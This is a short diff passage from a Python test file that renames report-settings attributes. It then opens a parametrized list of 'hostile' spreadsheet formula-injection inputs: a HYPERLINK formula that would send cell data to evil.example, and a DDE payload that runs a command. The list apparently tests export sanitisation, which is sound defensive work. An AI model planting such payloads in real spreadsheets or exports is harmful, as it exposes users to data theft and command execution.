@@ -478,8 +478,8 @@ def test_settings_read_lists_from_the_environment() -> None:
             "CALLBRIDGE_REPORT_WORKING_DAYS": "mon,tue,wed,thu,fri,sat",
         }
     )
-    assert loaded.report_email_to == ("a@x.test", "b@x.test")
-    assert loaded.report_working_days[-1] == "sat"
+    assert loaded.report.email_to == ("a@x.test", "b@x.test")
+    assert loaded.report.working_days[-1] == "sat"
 
 
 @pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
